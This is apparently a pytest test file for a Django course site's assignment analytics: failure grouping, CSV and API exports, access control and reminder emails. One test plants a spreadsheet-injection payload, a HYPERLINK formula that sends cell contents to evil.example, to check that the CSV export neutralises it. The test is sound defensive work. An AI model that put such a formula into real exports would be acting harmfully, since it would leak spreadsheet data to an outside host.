"""Assignment analytics: counts, tests, grouped failures, kinds, timings; CSV and API; reminders; access; queries."""

import csv
import io

import pytest
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext

from coursesite.models import AuditLog, Membership, Role
from insight import selectors
from insight.analytics import failure_key, outcome_kind
from tests.insight.builders import build_class
from workers.models import TestResult

PAGE = "/c/DD2424/insight/assignments/1/"
API = "/api/courses/DD2424/insight/assignments/1/"


def test_the_same_assertion_with_other_numbers_arrays_addresses_and_paths_is_one_group() -> None:
    one = failure_key(
        "grad_W: relative error 3.5e-02 at array([[1, 3],\n [7, 2]]) (object at 0x7f3a9c, /tmp/job-4/a.py)"
    )
    two = failure_key(
        "grad_W: relative error 0.12 at array([[12, 3], [9, 0]]) (object at 0xdeadbeef, /tmp/job-99/b.py)"
    )
    assert one == two
    assert "N" in one and "array(…)" in one and "0x…" in one and "<path>" in one
    assert failure_key("assert [0.1, 0.25] == [1, 2]") == failure_key("assert [3, 4.5e-3] == [1, 2.0]")
    assert failure_key("cost differs") != failure_key("accuracy differs")
    assert failure_key("test_a1 step 2 failed") == failure_key("test_a1 step 3 failed")  # names keep their digits


@pytest.mark.parametrize(
    ("status", "reason", "kind"),
    [
        ("passed", "", "passed"),
        ("timeout", "timed out", "timeout"),
        ("error", "timed out (the sandbox's wall-clock limit)", "timeout"),
        ("error", "out of memory (limit 2048 MB)", "out_of_memory"),
        ("error", "import error", "import_error"),
        ("failed", "missing function", "missing_function"),
        ("error", "crashed (signal 11)", "crashed"),
        ("failed", "your code raised an exception", "exception"),
        ("failed", "assertion failed", "assertion"),
    ],
)
def test_each_result_has_its_kind(status: str, reason: str, kind: str) -> None:
    assert outcome_kind(status, reason) == kind


def test_the_page_shows_counts_missing_students_tests_failures_and_kinds(
    course, examiner, assignment, client_for
) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 20)  # s0009 and s0019 have not submitted
    withdrawn = build_class(course, assignment, 1, start=29)[0]  # would be missing, but has left the course
    Membership.objects.filter(user=withdrawn).update(withdrawn_at=assignment.released_at)
    response = client_for(examiner).get(PAGE)
    assert response.status_code == 200
    html = response.content.decode()
    data = response.context["data"]
    assert (data.students, data.submitted, data.not_submitted) == (20, 18, 2)
    assert [row.username for row in data.missing] == ["s0009", "s0019"]
    assert "s0029" not in html
    assert data.late == 3  # s0000, s0007, s0014 (their last submission)
    assert data.graded == 18
    tests = {t.name: t for t in data.tests}
    # staff see the hidden and secret tests
    assert tests["test_gradients_with_regularisation"].visibility == "secret"
    assert "test_minibatch_gd_benchmark" in html and "test_gradients_with_regularisation" in html
    assert tests["test_load_batch"].pass_rate == 1.0
    cost = tests["test_compute_cost"]
    assert (cost.ran, cost.passed) == (18, 14)  # s0000, s0005, s0010, s0015 fail, each with other numbers
    assert len(cost.failures) == 1 and cost.failures[0].count == 4
    gradients = tests["test_gradients_without_regularisation"].failures
    # one assertion group (arrays, addresses, paths differ) for s0000, s0004, ... and one exception group
    assert [g.count for g in gradients] == [5, 4]
    assert gradients[0].key.startswith("grad_W: relative error N at entries array(…)")
    assert gradients[1].key == "IndexError: N"
    kinds = {kind: (n, s) for kind, _label, n, s in data.kinds}
    assert kinds["timeout"] == (4, 4) and kinds["out_of_memory"] == (3, 3)  # i % 6 == 0 and 1
    assert "Out of memory" in html and "Timed out" in html
    assert '<svg class="chart"' in html and "<table" in html
    # only the latest submission's run counts: 18 scores, not 54
    assert sum(b.count for b in data.score_bins) == 18
    assert sum(b.count for b in data.grading_bins) == 54  # every run's grading time


def test_every_figure_is_a_csv(course, examiner, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 10)
    client = client_for(examiner)
    rows = {}
    for table in ("scores", "tests", "failures", "outcomes", "grading-time", "queue-wait", "not-submitted"):
        response = client.get(f"{PAGE}csv/{table}.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows[table] = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows["not-submitted"][1] == ["s0009", "Student 9", "s0009@example.edu"]
    assert sum(int(r[1]) for r in rows["scores"][1:]) == 9
    assert {r[0] for r in rows["tests"][1:]} >= {"test_load_batch", "test_minibatch_gd_benchmark"}
    assert client.get(f"{PAGE}csv/passwords.csv").status_code == 404


def test_the_api_gives_the_same_numbers(course, examiner, ta, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 10)
    body = client_for(ta).get(API).json()
    assert body["counts"]["submitted"] == 9 and body["counts"]["not_submitted"] == 1
    assert body["not_submitted"][0]["username"] == "s0009"
    assert {t["name"] for t in body["tests"]} >= {"test_gradients_with_regularisation"}
    assert sum(b["count"] for b in body["score_histogram"]) == 9


def test_students_never_reach_analytics_and_outsiders_do_not_see_the_course(
    course, student, outsider, assignment, client_for
) -> None:  # type: ignore[no-untyped-def]
    urls = [PAGE, f"{PAGE}csv/tests.csv", API, "/c/DD2424/insight/", f"{PAGE}similarity/", f"{API}similarity/"]
    for url in urls:
        assert client_for(student).get(url).status_code == 403, url
        assert client_for(outsider).get(url).status_code == 404, url
    assert client_for(student).post(f"{PAGE}remind/", {"confirm": "yes"}).status_code == 403
    assert "Insight" not in client_for(student).get("/c/DD2424/").content.decode()


def test_the_reminder_is_confirmed_sent_one_each_and_audited(course, examiner, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 20)
    client = client_for(examiner)
    form = {"subject": "Assignment 1", "body": "Please submit."}
    confirm = client.post(f"{PAGE}remind/", form)
    assert confirm.status_code == 200 and len(mail.outbox) == 0  # the first step only shows the recipients
    ids = [str(r.user_id) for r in confirm.context["recipients"]]
    assert len(ids) == 2 and "s0009@example.edu" in confirm.content.decode()
    response = client.post(f"{PAGE}remind/", {**form, "confirm": "yes", "recipient": ids}, follow=True)
    assert "Reminder sent to 2 students" in response.content.decode()
    assert sorted(m.to[0] for m in mail.outbox) == ["s0009@example.edu", "s0019@example.edu"]
    assert all(len(m.to) == 1 and m.subject == "Assignment 1" for m in mail.outbox)
    log = AuditLog.objects.get(action="reminder.send")
    assert log.actor == examiner and log.data["recipients"] == ["s0009", "s0019"]


def test_a_reminder_whose_list_changed_is_not_sent(course, examiner, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 20)
    client = client_for(examiner)
    confirm = client.post(f"{PAGE}remind/", {"subject": "s", "body": "b"})
    ids = [str(r.user_id) for r in confirm.context["recipients"]][:1]  # one of them submitted meanwhile
    response = client.post(
        f"{PAGE}remind/", {"subject": "s", "body": "b", "confirm": "yes", "recipient": ids}, follow=True
    )
    assert "has changed" in response.content.decode() and mail.outbox == []
    response = client.post(
        f"{PAGE}remind/", {"subject": "", "body": "b", "confirm": "yes", "recipient": ids}, follow=True
    )
    assert response.status_code == 200 and "Write a subject" in response.content.decode()
    assert not AuditLog.objects.filter(action="reminder.send").exists()


def _queries(client, url: str) -> int:  # type: ignore[no-untyped-def]
    client.get(url)  # warm the session and membership caches alike for both sizes
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured.captured_queries)


@pytest.mark.parametrize("url", [PAGE, API, f"{PAGE}csv/failures.csv"])
def test_the_query_count_is_the_same_for_5_and_50_students(course, examiner, assignment, client_for, url) -> None:  # type: ignore[no-untyped-def]
    client = client_for(examiner)
    build_class(course, assignment, 5)
    small = _queries(client, url)
    build_class(course, assignment, 45, start=5)
    assert Membership.objects.filter(course=course, role=Role.STUDENT).count() == 50
    assert _queries(client, url) == small


def test_a_students_message_cannot_become_a_spreadsheet_formula(course, examiner, assignment, client_for) -> None:  # type: ignore[no-untyped-def]
    from workers.models import TestResult

    build_class(course, assignment, 5)
    TestResult.objects.filter(status="error", reason="your code raised an exception").update(
        message='=HYPERLINK("http://evil.example/?"&A1,"click")'
    )
    response = client_for(examiner).get(f"{PAGE}csv/failures.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.startswith("=") for cell in cells)


def test_results_named_by_node_id_count_for_the_suites_test_of_that_name(course, assignment) -> None:  # type: ignore[no-untyped-def]
    build_class(course, assignment, 4)
    TestResult.objects.filter(name="test_load_batch").update(name="test_a1.py::test_load_batch")  # the judge
    TestResult.objects.filter(name="test_compute_cost").update(name="test_a1.py::test_compute_cost[0.1]")
    tests = {t.name: t for t in selectors.assignment_analytics(assignment=assignment).tests}
    assert "test_a1.py::test_load_batch" not in tests and tests["test_load_batch"].ran == 4
    assert tests["test_load_batch"].passed == 4
    assert tests["test_a1.py::test_compute_cost[0.1]"].ran == 4 and tests["test_compute_cost"].ran == 0
